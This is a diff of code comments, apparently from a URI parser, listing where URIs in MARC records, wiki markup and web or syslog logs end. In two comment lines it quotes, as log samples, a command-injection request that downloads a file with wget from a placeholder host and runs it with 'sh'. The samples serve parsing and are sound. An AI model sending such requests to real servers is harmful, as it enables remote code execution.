@@ -114,8 +114,9 @@
 //   - the next subfield behind "$u" in a record of MARC, "$uhttp://a.example/b$zText";
 //   - the second mark of an image that is linked, "!http://a.example/b.png!:http://a.example/";
 //   - a "+" that stands for a space, as the one directly before the URI does: any in the query
-//     of a request for a path, "/a?cmd=wget+http://a.example/b+-q", behind ",", ";" or "(",
-//     as in W3C logs, one behind such a mark or ")";
+//     of a request for a path or behind a command that downloads the URI,
+//     "/a?cmd=wget+http://a.example/b+-q", or there the separator of the next command, "b;sh+b";
+//     behind ",", ";" or "(", as in W3C logs, one behind such a mark or ")";
 //   - the number of a control character, "#012", as rsyslog writes it, with another one behind
 //     it, or on a line that begins as those of syslog;
 //   - a remark: a parenthesis that nothing in the URI closes, where a word follows and
